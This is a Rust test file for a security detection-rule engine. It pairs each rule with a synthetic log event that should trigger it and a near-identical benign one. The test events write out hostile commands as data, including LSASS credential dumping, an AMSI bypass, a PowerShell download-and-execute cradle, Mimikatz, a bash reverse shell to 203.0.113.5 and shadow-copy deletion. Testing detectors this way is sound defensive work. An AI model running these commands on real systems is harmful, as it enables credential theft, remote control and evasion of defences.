//! `config/rules`, each rule against an event it must match and one, nearly the same, it must not.

use crate::support::{event, starter_rules, sysmon, windows};
use casemate_detect::Rules;
use casemate_event::{Event, EventId, Format, Stored, field};
use jiff::{SignedDuration, Timestamp};
use std::collections::BTreeSet;
use std::sync::Mutex;

struct Table {
    rules: Rules,
    matched: Mutex<BTreeSet<String>>,
}

impl Table {
    /// `name` is the rule's file name without ending.
    fn check(&self, name: &str, event: &Event, expected: bool) {
        let is_named = |path: &std::path::Path| path.file_stem().is_some_and(|stem| stem == name);
        assert!(self.rules.iter().any(|rule| is_named(&rule.path)), "no rule {name}");
        let found: Vec<_> =
            self.rules.matches(event).into_iter().filter(|rule| is_named(&rule.path)).collect();
        assert_eq!(!found.is_empty(), expected, "{name}: {:?}", event.native);
        if expected {
            self.matched.lock().unwrap().insert(name.to_owned());
        }
    }

    fn pair(&self, name: &str, matching: &Event, other: &Event) {
        self.check(name, matching, true);
        self.check(name, other, false);
    }
}

impl Table {
    /// As [`pair`](Self::pair), with events a second apart.
    fn series(&self, name: &str, matching: &[&Event], other: &[&Event]) {
        for (events, expected) in [(matching, true), (other, false)] {
            let mut correlator = self.rules.correlator();
            let found = (1..).zip(events).any(|(id, event)| {
                let mut event = (*event).clone();
                event.time = Timestamp::UNIX_EPOCH + SignedDuration::from_secs(id);
                let stored = Stored { id: EventId(id as u64), event };
                let matched = self.rules.matches(&stored.event);
                let fired = correlator.observe(&self.rules, &stored, &matched);
                fired.iter().any(|one| one.rule.path.file_stem().is_some_and(|stem| stem == name))
            });
            assert_eq!(found, expected, "{name}");
        }
        self.matched.lock().unwrap().insert(name.to_owned());
    }
}

fn run(image: &str, line: &str) -> Event {
    sysmon(1, &[("Image", image), ("CommandLine", line), ("ParentImage", "C:\\Windows\\explorer.exe")])
}

fn child(parent: &str, image: &str, line: &str) -> Event {
    sysmon(1, &[("Image", image), ("CommandLine", line), ("ParentImage", parent)])
}

fn script(text: &str) -> Event {
    windows("Microsoft-Windows-PowerShell/Operational", 4104, &[("ScriptBlockText", text)])
}

fn log(program: &str, message: &str) -> Event {
    event(Format::SyslogRfc5424, &[("program", program), ("message", message)])
}

fn zeek(path: &str, native: &[(&str, &str)]) -> Event {
    let all: Vec<(&str, &str)> = [("_path", path)].iter().chain(native).copied().collect();
    event(Format::ZeekTsv, &all)
}

fn registry(key: &str, details: &str) -> Event {
    sysmon(13, &[("TargetObject", key), ("Details", details)])
}

#[test]
fn every_rule_matches_what_it_should() {
    let (rules, problems) = Rules::load(&[starter_rules()]).unwrap();
    assert!(problems.is_empty(), "{problems:?}");
    let table = Table { rules, matched: Mutex::default() };
    processes(&table);
    other_sysmon(&table);
    windows_logs(&table);
    linux(&table);
    network(&table);
    cloud(&table);
    correlations(&table);
    let matched = table.matched.into_inner().unwrap();
    let untested: Vec<_> = table
        .rules
        .iter()
        .filter_map(|rule| rule.path.file_stem()?.to_str())
        .filter(|name| !matched.contains(*name))
        .collect();
    assert!(untested.is_empty(), "rules without a matching event here: {untested:?}");
}

fn processes(t: &Table) {
    let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    let encoded = "JABvACAAPQAgACcAQwA6AFwAVwBpAG4AZABvAHcAcwA=";
    t.pair(
        "powershell_encoded_command",
        &run(ps, &format!("powershell -nop -EncodedCommand {encoded}")),
        &run(ps, "powershell -ExecutionPolicy Bypass -File C:\\inventory\\collect-everything.ps1"),
    );
    t.check("powershell_encoded_command", &run(ps, &format!("powershell /e {encoded}")), true);
    let rundll = "C:\\Windows\\System32\\rundll32.exe";
    t.pair(
        "lsass_dump_comsvcs",
        &run(rundll, "rundll32.exe C:\\windows\\System32\\comsvcs.dll MiniDump 628 C:\\x.dmp full"),
        &run(rundll, "rundll32.exe shell32.dll,Control_RunDLL"),
    );
    t.check("lsass_dump_comsvcs", &run(rundll, "rundll32 comsvcs.dll, #24 628 x full"), true);
    t.pair(
        "lsass_dump_tool",
        &run("C:\\t\\procdump64.exe", "procdump64.exe -ma lsass.exe out"),
        &run("C:\\t\\procdump64.exe", "procdump64.exe -ma w3wp.exe out"),
    );
    t.check("lsass_dump_tool", &run("C:\\t\\pd.exe", "pd.exe /ma lsass out"), true);
    let vss = "C:\\Windows\\System32\\vssadmin.exe";
    t.pair(
        "shadow_copies_deleted",
        &run(vss, "vssadmin delete shadows /all /quiet"),
        &run(vss, "vssadmin list shadows"),
    );
    t.pair("shadow_copies_listed", &run(vss, "vssadmin list shadows"), &run(vss, "vssadmin create shadow"));
    t.pair(
        "office_starts_interpreter",
        &child("C:\\Office16\\WINWORD.EXE", ps, "powershell"),
        &child("C:\\Office16\\WINWORD.EXE", "C:\\Windows\\splwow64.exe", "splwow64"),
    );
    let cmd = "C:\\Windows\\System32\\cmd.exe";
    t.pair(
        "shell_from_download",
        &child("C:\\Users\\a\\Downloads\\x.exe", cmd, "cmd"),
        &child("C:\\Program Files\\x.exe", cmd, "cmd"),
    );
    t.pair(
        "rundll32_user_writable_library",
        &run(rundll, "rundll32 C:\\Users\\A~1\\AppData\\Local\\Temp\\x.dll,a"),
        &run(rundll, "rundll32 C:\\Windows\\System32\\shell32.dll,x"),
    );
    t.pair(
        "rundll32_without_arguments",
        &run(rundll, rundll),
        &child("C:\\Windows\\System32\\msiexec.exe", rundll, rundll),
    );
    let certutil = "C:\\Windows\\System32\\certutil.exe";
    t.pair(
        "certutil_download",
        &run(certutil, "certutil /urlcache -f http://x/y z"),
        &run(certutil, "certutil -store My"),
    );
    let regsvr = "C:\\Windows\\System32\\regsvr32.exe";
    t.pair(
        "regsvr32_scriptlet",
        &run(regsvr, "regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll"),
        &run(regsvr, "regsvr32 /s vendor.dll"),
    );
    let mshta = "C:\\Windows\\System32\\mshta.exe";
    t.pair(
        "mshta_remote_or_inline",
        &run(mshta, "mshta http://x/y.hta"),
        &run(mshta, "mshta C:\\app\\form.hta"),
    );
    let wmic = "C:\\Windows\\System32\\wbem\\WMIC.exe";
    t.pair(
        "wmic_process_create",
        &run(wmic, "wmic /node:ws2 process call create calc"),
        &run(wmic, "wmic process list"),
    );
    t.pair(
        "discovery_commands",
        &run("C:\\Windows\\System32\\whoami.exe", "whoami /groups"),
        &run("C:\\Windows\\System32\\net.exe", "net localgroup x y /add"),
    );
    let net = "C:\\Windows\\System32\\net.exe";
    t.pair("account_added_by_net", &run(net, "net user bob secret /add"), &run(net, "net user bob"));
    let schtasks = "C:\\Windows\\System32\\schtasks.exe";
    t.pair(
        "scheduled_task_suspicious_action",
        &run(schtasks, "schtasks -create /tn x /tr \"powershell -w hidden\""),
        &run(schtasks, "schtasks /create /tn x /tr \"C:\\Program Files\\v\\u.exe\""),
    );
    let bits = "C:\\Windows\\System32\\bitsadmin.exe";
    t.pair(
        "bitsadmin_download",
        &run(bits, "bitsadmin /transfer j http://x/y z"),
        &run(bits, "bitsadmin /list"),
    );
    let wevtutil = "C:\\Windows\\System32\\wevtutil.exe";
    t.pair(
        "event_log_cleared_by_command",
        &run(wevtutil, "wevtutil cl Security"),
        &run(wevtutil, "wevtutil al Security"),
    );
    let reg = "C:\\Windows\\System32\\reg.exe";
    t.pair("remote_desktop_enabled", &run(reg, "reg add HKLM\\System\\CurrentControlSet\\Control\\Terminal Server /v fDenyTSConnections /t REG_DWORD /d 0"), &run(reg, "reg query x /v fDenyTSConnections"));
    t.pair(
        "defender_weakened",
        &run(ps, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
        &run(ps, "powershell Get-MpPreference"),
    );
    t.pair(
        "credential_store_copied",
        &run(reg, "reg save HKLM\\SAM C:\\sam.hiv"),
        &run(reg, "reg export \"HKLM\\SYSTEM\\CurrentControlSet\\Services\\x\" y"),
    );
    t.pair(
        "named_pipe_privilege_escalation",
        &child("C:\\Windows\\System32\\services.exe", cmd, "cmd.exe /c echo abc > \\\\.\\pipe\\abc"),
        &child("C:\\Windows\\System32\\services.exe", cmd, "cmd.exe /c echo abc"),
    );
}

fn other_sysmon(t: &Table) {
    let access = |source: &str, rights: &str, trace: &str| {
        sysmon(
            10,
            &[
                ("SourceImage", source),
                ("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
                ("GrantedAccess", rights),
                ("CallTrace", trace),
            ],
        )
    };
    t.pair(
        "lsass_memory_read",
        &access("C:\\t\\x.exe", "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(000001)"),
        &access("C:\\t\\x.exe", "0x1000", "UNKNOWN(000001)"),
    );
    t.check(
        "lsass_memory_read",
        &access("C:\\Windows\\System32\\svchost.exe", "0x1410", "ntdll.dll+1|KERNELBASE.dll+2"),
        false,
    );
    let written = |image: &str, path: &str| sysmon(11, &[("Image", image), ("TargetFilename", path)]);
    t.pair(
        "lsass_dump_file",
        &written("C:\\x.exe", "C:\\Windows\\Temp\\lsass-a.dmp"),
        &written("C:\\x.exe", "C:\\dumps\\w3wp.dmp"),
    );
    t.pair(
        "startup_folder_program",
        &written(
            "C:\\x.exe",
            "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe",
        ),
        &written("C:\\x.exe", "C:\\Users\\a\\u.exe"),
    );
    t.pair(
        "run_key_suspicious",
        &registry("HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u", "powershell -w hidden"),
        &registry(
            "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u",
            "C:\\Program Files\\v\\u.exe",
        ),
    );
    let wdigest = "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential";
    t.pair(
        "wdigest_enabled",
        &registry(wdigest, "DWORD (0x00000001)"),
        &registry(wdigest, "DWORD (0x00000000)"),
    );
    let options =
        "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe";
    t.pair(
        "image_file_execution_debugger",
        &registry(&format!("{options}\\Debugger"), "cmd.exe"),
        &registry(&format!("{options}\\MitigationOptions"), "x"),
    );
    let connected =
        |image: &str, ip: &str| sysmon(3, &[("Image", image), ("Initiated", "true"), ("DestinationIp", ip)]);
    t.pair(
        "interpreter_connects_out",
        &connected("C:\\Windows\\System32\\rundll32.exe", "203.0.113.5"),
        &connected("C:\\Windows\\System32\\rundll32.exe", "10.1.2.3"),
    );
    t.pair(
        "download_connects_out",
        &connected("C:\\Users\\a\\Downloads\\x.exe", "10.1.2.3"),
        &connected("C:\\Program Files\\x.exe", "10.1.2.3"),
    );
    let thread = |source: &str| {
        sysmon(8, &[("SourceImage", source), ("TargetImage", "C:\\Windows\\System32\\svchost.exe")])
    };
    t.pair(
        "remote_thread_in_system_process",
        &thread("C:\\Users\\a\\x.exe"),
        &thread("C:\\Windows\\System32\\csrss.exe"),
    );
    let pipe = |name: &str| sysmon(17, &[("PipeName", name), ("Image", "C:\\x.exe")]);
    t.pair("implant_pipe_name", &pipe("\\MSSE-1234-server"), &pipe("\\wkssvc"));
}

fn windows_logs(t: &Table) {
    t.pair(
        "script_decodes_and_runs",
        &script("IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('eA==')))"),
        &script("[Convert]::FromBase64String($certificate)"),
    );
    t.pair(
        "script_disables_amsi",
        &script("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"),
        &script("Get-Process"),
    );
    t.pair(
        "script_download_and_run",
        &script("IEX (New-Object Net.WebClient).DownloadString('http://x')"),
        &script("Invoke-WebRequest http://x -OutFile y"),
    );
    t.pair("script_credential_tool", &script("Invoke-Mimikatz -DumpCreds"), &script("Get-ADUser"));
    t.pair("event_log_cleared", &windows("Security", 1102, &[]), &windows("Application", 1102, &[]));
    t.pair(
        "logon_failed",
        &windows("Security", 4625, &[("Status", "0xc000006d")]),
        &windows("Security", 4776, &[("Status", "0x0")]),
    );
    t.pair(
        "service_suspicious_command",
        &windows("System", 7045, &[("ImagePath", "rundll32.exe C:\\Users\\a\\x.dll,a")]),
        &windows("System", 7045, &[("ImagePath", "C:\\Program Files\\v\\s.exe")]),
    );
    t.check(
        "service_suspicious_command",
        &windows("Security", 4697, &[("ServiceFileName", "%COMSPEC% /c x")]),
        true,
    );
    t.pair(
        "remote_execution_service",
        &windows("System", 7045, &[("ServiceName", "PSEXESVC")]),
        &windows("System", 7045, &[("ServiceName", "Spooler")]),
    );
    t.pair("account_created", &windows("Security", 4720, &[]), &windows("System", 4720, &[]));
    let member = |group: &str| windows("Security", 4732, &[("TargetUserName", group)]);
    t.pair("privileged_group_member_added", &member("Administrators"), &member("Users"));
    t.pair("account_locked_out", &windows("Security", 4740, &[]), &windows("Security", 4741, &[]));
}

fn linux(t: &Table) {
    t.pair(
        "ssh_root_password",
        &log("sshd", "Accepted password for root from 10.0.0.1 port 5 ssh2"),
        &log("sshd", "Accepted publickey for root from 10.0.0.1 port 5 ssh2"),
    );
    t.pair(
        "ssh_password_failed",
        &log("sshd", "Failed password for bob from 10.0.0.1 port 5 ssh2"),
        &log("sudo", "Failed password for bob"),
    );
    t.pair(
        "service_account_gains_shell",
        &log("sudo", "www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash"),
        &log("sudo", "alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash"),
    );
    t.pair("crontab_replaced", &log("crontab", "(root) REPLACE (root)"), &log("CRON", "(root) CMD (true)"));
    let execve = |a0: &str, a1: &str, a2: &str| {
        event(Format::Auditd, &[("type", "EXECVE"), ("a0", a0), ("a1", a1), ("a2", a2)])
    };
    t.pair(
        "reverse_shell_command",
        &execve("bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"),
        &execve("nc", "-z", "host 443"),
    );
    // Records of one event, joined.
    let joined = |a2: &str| {
        let native = [
            ("type", "SYSCALL\nEXECVE\nPATH"),
            ("name", "/bin/bash\n/lib/ld.so"),
            ("a0", "bash"),
            ("a1", "-c"),
            ("a2", a2),
        ];
        event(Format::Auditd, &native)
    };
    t.pair("reverse_shell_command", &joined("sh -i >& /dev/tcp/203.0.113.5/443"), &joined("true"));
    t.pair("audit_switched_off", &execve("auditctl", "-e", "0"), &execve("auditctl", "-l", "x"));
    t.pair(
        "ssh_logon_accepted",
        &log("sshd", "Accepted publickey for ann from 10.0.0.1 port 5 ssh2"),
        &log("sshd", "Failed password for ann from 10.0.0.1 port 5 ssh2"),
    );
}

fn correlations(t: &Table) {
    let ssh = |verb: &str, address: &str| {
        let mut event = log("sshd", &format!("{verb} password for ann from {address} port 5 ssh2"));
        event.fields.set(field::SRC_IP, address);
        event
    };
    let (failed, other, accepted) =
        (ssh("Failed", "10.0.0.1"), ssh("Failed", "10.0.0.2"), ssh("Accepted", "10.0.0.1"));
    let guessed = vec![&failed; 10];
    let spread = [vec![&failed; 9], vec![&other; 9]].concat();
    t.series("ssh_passwords_guessed", &guessed, &spread);
    t.series(
        "ssh_logon_after_guessing",
        &[guessed.clone(), vec![&accepted]].concat(),
        &[vec![&failed; 9], vec![&accepted], vec![&failed]].concat(),
    );
    let logon = |account: usize, address: &str| {
        let account = format!("user{account}");
        let native = [("TargetUserName", account.as_str()), ("IpAddress", address)];
        windows("Security", 4625, &native)
    };
    let sprayed: Vec<Event> = (0..8).map(|account| logon(account, "10.0.0.9")).collect();
    let alike: Vec<Event> = (0..20).map(|number| logon(number % 7, "10.0.0.9")).collect();
    t.series("passwords_sprayed", &sprayed.iter().collect::<Vec<_>>(), &alike.iter().collect::<Vec<_>>());
    t.pair("logon_failed_from_address", &sprayed[0], &logon(1, "-"));
}

fn network(t: &Table) {
    let program = ("resp_mime_types", "application/x-dosexec");
    t.pair(
        "program_from_bare_address",
        &zeek("http", &[program, ("host", "10.0.5.13")]),
        &zeek("http", &[program, ("host", "download.example.com")]),
    );
    t.check("program_from_bare_address", &zeek("http", &[program]), true);
    let file =
        |share: &str| zeek("smb_files", &[("path", share), ("action", "SMB::FILE_OPEN"), ("name", "x.exe")]);
    t.pair("admin_share_program", &file("\\\\ws2\\ADMIN$"), &file("\\\\fs1\\software"));
    let call = |endpoint: &str, operation: &str| {
        zeek("dce_rpc", &[("endpoint", endpoint), ("operation", operation)])
    };
    t.pair("remote_service_creation", &call("svcctl", "CreateServiceW"), &call("svcctl", "OpenSCManagerW"));
    t.pair(
        "remote_account_enumeration",
        &call("samr", "SamrEnumerateUsersInDomain"),
        &call("samr", "SamrCloseHandle"),
    );
    let query = |name: &str, kind: &str| zeek("dns", &[("query", name), ("qtype_name", kind)]);
    let long = format!("{}.t.example.com", "a1".repeat(28));
    t.pair("dns_long_label", &query(&long, "TXT"), &query("www.example.com", "TXT"));
    t.pair(
        "attack_tool_user_agent",
        &zeek("http", &[("user_agent", "Mozilla/5.00 (Nikto/2.5)"), ("uri", "/")]),
        &zeek("http", &[("user_agent", "Mozilla/5.0 Firefox"), ("uri", "/")]),
    );
}

fn cloud(t: &Table) {
    let call = |native: &[(&str, &str)]| event(Format::CloudTrail, native);
    t.pair(
        "aws_root_console_logon",
        &call(&[("eventName", "ConsoleLogin"), ("userIdentity.type", "Root")]),
        &call(&[("eventName", "ConsoleLogin"), ("userIdentity.type", "IAMUser")]),
    );
    let trail = ("eventSource", "cloudtrail.amazonaws.com");
    t.pair(
        "aws_trail_stopped",
        &call(&[trail, ("eventName", "StopLogging")]),
        &call(&[trail, ("eventName", "DescribeTrails")]),
    );
    let iam = ("eventSource", "iam.amazonaws.com");
    t.pair(
        "aws_access_key_created",
        &call(&[iam, ("eventName", "CreateAccessKey")]),
        &call(&[iam, ("eventName", "CreateAccessKey"), ("errorCode", "AccessDenied")]),
    );
    let open = |range: &str| {
        call(&[
            ("eventName", "AuthorizeSecurityGroupIngress"),
            ("requestParameters.ipPermissions.items.0.ipRanges.items.0.cidrIp", range),
        ])
    };
    t.pair("aws_security_group_opened", &open("0.0.0.0/0"), &open("10.0.0.0/8"));
}
